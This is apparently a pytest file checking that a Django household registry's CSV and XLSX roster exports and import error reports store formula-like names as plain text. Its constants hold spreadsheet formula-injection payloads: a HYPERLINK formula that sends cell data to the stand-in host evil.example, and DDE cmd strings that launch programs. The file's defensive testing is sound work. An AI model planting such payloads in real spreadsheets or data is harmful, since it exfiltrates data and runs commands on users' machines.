"""No registry export or error report holds a cell a spreadsheet would run as a formula: names
entered through the household form or a roster import come out as text (tabular.safe)."""

import csv
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from xiezuo.registry.models import Person
from xiezuo.registry.services import household_import, roster_export

EVIL_LINK = '=HYPERLINK("http://evil.example/?d="&H2,"详情")'
EVIL_CMD = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_PLUS = "+1+2"
EVIL_MINUS = "-2+3+cmd|' /C notepad'!A0"


def xlsx_has_no_formula(path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                assert not re.search(r"<f[ >]", xml), f"a formula in {name}"


def xlsx_cells(path) -> dict[str, object]:
    """Every text cell by value, with its openpyxl cell (one sheet or many)."""
    out = {}
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    out[c.value] = c
    return out


def csv_cells(path) -> set[str]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return {c for row in csv.reader(f) for c in row}


def test_a_name_from_the_household_form_is_text_in_both_roster_exports(client, areas, users,
                                                                       tmp_path, form_data,
                                                                       two_households):
    hh = two_households(areas)["taoyang"]
    client.force_login(users["township_clerk"])
    url = reverse("registry:household_edit", args=[hh.pk])
    data = form_data(client.get(url).content.decode())
    data.update({"m-0-name": EVIL_LINK, "m-1-name": EVIL_PLUS, "natural_village": EVIL_MINUS})
    assert client.post(url, data).status_code == 302
    assert set(Person.objects.values_list("name", flat=True)) >= {EVIL_LINK, EVIL_PLUS}

    xlsx = tmp_path / "roster.xlsx"
    roster_export(actor=users["county_admin"], path=xlsx)
    xlsx_has_no_formula(xlsx)
    cells = xlsx_cells(xlsx)
    for text in (EVIL_LINK, EVIL_PLUS, EVIL_MINUS):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text

    out = tmp_path / "roster.csv"
    roster_export(actor=users["county_admin"], path=out)
    values = csv_cells(out)
    for text in (EVIL_LINK, EVIL_PLUS, EVIL_MINUS):
        assert "'" + text in values and text not in values


def test_a_name_from_a_roster_import_is_text_in_the_export(areas, tmp_path, household, write_csv):
    rows = household("H1", 2)
    rows[0]["姓名"], rows[1]["姓名"] = EVIL_CMD, EVIL_PLUS
    r = household_import(path=write_csv(tmp_path / "in.csv", rows))
    assert r.rejected == 0, r.errors
    out = tmp_path / "out.csv"
    roster_export(path=out)
    values = csv_cells(out)
    assert {"'" + EVIL_CMD, "'" + EVIL_PLUS} <= values and EVIL_CMD not in values
    xlsx = tmp_path / "out.xlsx"
    roster_export(path=xlsx)
    xlsx_has_no_formula(xlsx)
    assert xlsx_cells(xlsx)[EVIL_CMD].data_type == "s"


def test_the_error_report_gives_back_what_the_file_held_as_text(areas, tmp_path, household,
        write_csv):
    rows = household("H1", 2)
    rows[0]["证件号码"] = "=1+2"  # rejected: the value itself goes to the report
    rows[0]["姓名"] = EVIL_LINK
    rows[1]["危房户"] = EVIL_MINUS  # rejected: not 是/否
    header = [*rows[0]]
    header[header.index("自然村")] = EVIL_CMD  # an unknown column the report repeats
    rows = [{(EVIL_CMD if k == "自然村" else k): v for k, v in row.items()} for row in rows]
    r = household_import(path=write_csv(tmp_path / "in.csv", rows, header=header),
                         dry_run=True)
    assert r.rejected == 2 and r.report
    xlsx_has_no_formula(r.report)
    cells = xlsx_cells(r.report)
    for text in ("=1+2", EVIL_LINK, EVIL_MINUS, EVIL_CMD):
        assert cells[text].data_type == "s", text


@pytest.mark.parametrize("name", [EVIL_LINK])
def test_the_export_job_file_is_safe_too(client, areas, users, name, two_households):
    """The web export (a background job) writes through the same service."""
    hh = two_households(areas)["taoyang"]
    Person.objects.filter(household=hh).update(name=name)
    client.force_login(users["county_admin"])
    r = client.post(reverse("registry:export"), {"format": "csv"})
    assert r.status_code == 302
    job = client.get(r["Location"]).context["job"]
    assert job.status == "done", job.message
    d = client.get(reverse("registry:export_download", args=[job.pk]))
    text = b"".join(d.streaming_content).decode("utf-8-sig")
    assert "'" + name.replace('"', '""') in text
